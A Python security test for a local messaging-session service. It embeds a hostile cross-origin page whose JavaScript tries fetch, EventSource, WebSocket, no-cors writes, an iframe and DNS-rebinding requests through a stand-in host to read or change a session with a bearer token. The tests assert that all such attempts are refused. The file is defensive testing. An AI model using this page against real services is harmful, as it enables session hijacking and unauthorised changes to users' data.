"""A page of another origin in a browser, against a protected service on this machine: by fetch, EventSource,
WebSocket and a name that leads here. The page even knows a session and a token for it.
"""

from pathlib import Path
from typing import Any

from eliza.sessions.v1 import message_service_pb2, session_service_pb2
from tests.service.access.attacked import Attacked
from tests.service.access.world import AGENT, ALICE
from tests.support.realtime.browser import browser
from tests.support.waiting import until

PAGE = """<!doctype html><title>attack</title><script>
let number = 0;
const tell = (what) => fetch("/record", { method: "POST", body: JSON.stringify({ number: number++, ...what }) });
const sessions = "http://ADDRESS/api/messaging/sessions", one = `${sessions}/SESSION`;
const rebound = "http://rebound.example:PORT/api/messaging/sessions/SESSION";
const bearer = { Authorization: "Bearer TOKEN" }, json = { "Content-Type": "application/json" };
const attempt = async (name, work) => {
  try { await tell({ name, result: await work() }); } catch (error) { await tell({ name, result: "refused" }); }
};
const asked = (url, options) => async () => {
  const response = await fetch(url, options);
  return [response.status, await response.text()].join(" ");
};
const opened = (Source, url) => () => new Promise((resolve, reject) => {
  const source = new Source(url);
  source.onopen = () => { source.close(); resolve("open"); };
  source.onerror = reject;
});
const socket = (url) => () => new Promise((resolve, reject) => {
  const source = new WebSocket(url), heard = [];
  source.onmessage = ({ data }) => { heard.push(data); if (heard.length == 1) source.send('40{"token":"TOKEN"}'); else resolve(heard.join()); };
  source.onerror = reject;
});
const body = JSON.stringify({ content: "Attacked" });
const created = JSON.stringify({ agentId: "AGENT", userId: "USER" });
(async () => {
  await attempt("read", asked(one, { credentials: "include" }));
  await attempt("read with a token", asked(one, { headers: bearer }));
  await attempt("list with a token", asked(sessions, { headers: bearer }));
  await attempt("send with a token", asked(`${one}/messages`, { method: "POST", headers: { ...bearer, ...json }, body }));
  await attempt("create", asked(sessions, { method: "POST", headers: json, body: created }));
  await attempt("delete with a token", asked(one, { method: "DELETE", headers: bearer }));
  await attempt("renew with a token", asked(`${one}/renew`, { method: "POST", headers: bearer }));
  // Without leave to read the answer: nothing but the service keeps it from being done.
  await attempt("blind", asked(`${one}/messages?access_token=TOKEN`, { method: "POST", mode: "no-cors", body }));
  await attempt("blind read", asked(`${one}/events?access_token=TOKEN`, { mode: "no-cors", credentials: "include" }));
  await attempt("events", opened(EventSource, `${one}/events`));
  await attempt("events with a token", opened(EventSource, `${one}/events?access_token=TOKEN`));
  await attempt("poll", asked("http://ADDRESS/socket.io/?EIO=4&transport=polling"));
  await attempt("websocket", socket("ws://ADDRESS/socket.io/?EIO=4&transport=websocket"));
  await attempt("rebound", asked(rebound, { headers: bearer }));
  await attempt("rebound events", opened(EventSource, `${rebound}/events?access_token=TOKEN`));
  await attempt("rebound websocket", socket("ws://rebound.example:PORT/socket.io/?EIO=4&transport=websocket"));
  await attempt("rebound frame", () => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.src = `${rebound}/events?access_token=TOKEN`;
    frame.onload = () => { let text = "unreadable"; try { text = frame.contentDocument.body.innerText; } catch {} resolve(text); };
    document.body.append(frame);
  }));
  await attempt("end", () => "end");
})();
</script><body></body>"""


def results(attacked: Attacked, host: str, profile: Path) -> dict[str, Any]:
    """What a page of a host gets of each attempt."""
    world, page = attacked.world, PAGE
    for word, text in {
        "ADDRESS": world.service.rest,
        "PORT": world.service.rest.rpartition(":")[2],
        "SESSION": world.session_id,
        "TOKEN": world.tokens["token"],
        "AGENT": AGENT,
        "USER": ALICE,
    }.items():
        page = page.replace(word, text)
    with browser(page, profile, host) as recorder:
        until(lambda: any(one.get("name") == "end" for one in recorder.records()), "the page to end", 90)
        return {one["name"]: one["result"] for one in recorder.records()}


def state(attacked: Attacked) -> tuple[object, ...]:
    """What there is, as it would show that something was changed."""
    world = attacked.world
    options: dict[str, Any] = {"metadata": world.metadata("service"), "timeout": 20}
    asked = session_service_pb2.GetSessionRequest(session_id=world.session_id)
    session = world.service.sessions.GetSession(asked, **options).session
    listed = world.service.sessions.ListSessions(
        session_service_pb2.ListSessionsRequest(page_size=1), **options
    )
    messages = message_service_pb2.ListMessagesRequest(session_id=world.session_id)
    found = world.service.messages.ListMessages(messages, **options).messages
    return session.etag, session.renewal_count, listed.total_size, [one.content for one in found]


def test_a_page_of_another_origin_reads_and_changes_nothing(attacked: Attacked, tmp_path: Path) -> None:
    before = state(attacked)
    found = results(attacked, "evil.example", tmp_path / "profile")
    blind = {name: found.pop(name) for name in ("blind", "blind read")}
    frame = found.pop("rebound frame")
    assert found.pop("end") == "end"
    assert found == dict.fromkeys(found, "refused")
    assert len(found) == 14
    # The browser tells of these nothing at all.
    assert {*blind.values()} <= {"0 ", "refused"}, blind
    assert frame == "unreadable"
    assert state(attacked) == before
    log = attacked.world.service.log()
    assert "REST_ALLOWED_ORIGINS" in log
    assert "REST_ALLOWED_HOSTS" in log
    assert attacked.world.tokens["token"] not in log


def test_a_page_of_this_machine_may_what_its_token_allows(attacked: Attacked, tmp_path: Path) -> None:
    found = results(attacked, "localhost", tmp_path / "profile")
    reached = {name: str(result)[:4].strip() for name, result in found.items()}
    wanted = {
        # With its cookies: no answer may be read by whom they belong to.
        "read": "refu",
        "read with a token": "200",
        "list with a token": "403",
        "send with a token": "201",
        "create": "401",
        "delete with a token": "403",
        "renew with a token": "200",
        "events": "refu",
        "events with a token": "open",
        "poll": "200",
    }
    assert {name: reached[name] for name in wanted} == wanted
    assert "sid" in found["websocket"]
